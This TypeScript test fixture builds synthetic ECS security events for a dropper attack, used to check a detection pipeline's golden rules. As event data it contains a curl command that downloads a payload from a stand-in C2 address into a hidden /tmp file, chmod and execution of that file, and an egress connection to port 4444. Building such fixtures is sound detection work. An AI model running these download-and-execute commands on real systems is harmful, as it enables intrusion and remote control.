// Test fixture: one dropper attack (login shell, download to /tmp, chmod, execute, outbound
// connection) as ECS events, matching the golden rules in test/golden/rules (model m-dropper-c2).
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { EcsEvent } from '../../pipeline/ecs.js';

export const GOLDEN_RULES = resolve(dirname(fileURLToPath(import.meta.url)), '../../../../test/golden/rules');

export function attackEvents(o: { host?: string; session: number; t0: number; idPrefix?: string; c2?: string }): EcsEvent[] {
  const host = o.host ?? 'web1';
  const c2 = o.c2 ?? '203.0.113.5';
  const p = o.idPrefix ?? `${host}-${o.session}`;
  const sh = `${host}:${o.session}:1`;
  const base = { 'event.kind': 'event', 'host.id': host, 'host.name': host, 'agent.id': 'a1', 'process.user.name': 'deploy', 'user.name': 'deploy' };
  const proc = (n: number, pid: number, exe: string, cmd: string, parent: string, parentExe: string): EcsEvent => ({
    ...base, '@timestamp': o.t0 + n * 1000, 'event.id': `${p}:${n}`, 'event.category': 'process', 'event.type': 'start', 'event.action': 'process_started',
    'process.entity_id': `${host}:${pid}:1`, 'process.pid': pid, 'process.executable': exe, 'process.name': exe.slice(exe.lastIndexOf('/') + 1),
    'process.command_line': cmd, 'process.args': cmd.split(' '), 'process.parent.entity_id': parent, 'process.parent.executable': parentExe,
  } as EcsEvent);
  const drop = `/tmp/.x${o.session}`;
  return [
    proc(0, o.session, '/bin/bash', '-bash', `${host}:1:1`, '/usr/sbin/sshd'),
    proc(1, o.session + 1, '/usr/bin/curl', `curl -s -o ${drop} http://${c2}/x`, sh, '/bin/bash'),
    proc(2, o.session + 2, '/bin/chmod', `chmod +x ${drop}`, sh, '/bin/bash'),
    proc(3, o.session + 3, drop, `${drop} -c ${c2}`, sh, '/bin/bash'),
    {
      ...base, '@timestamp': o.t0 + 4000, 'event.id': `${p}:4`, 'event.category': 'network', 'event.type': 'connection', 'event.action': 'connection_attempted',
      'process.entity_id': `${host}:${o.session + 3}:1`, 'process.pid': o.session + 3, 'process.executable': drop, 'network.transport': 'tcp',
      'network.direction': 'egress', 'source.ip': '10.0.0.5', 'source.port': 50000, 'destination.ip': c2, 'destination.port': 4444,
    } as EcsEvent,
  ];
}
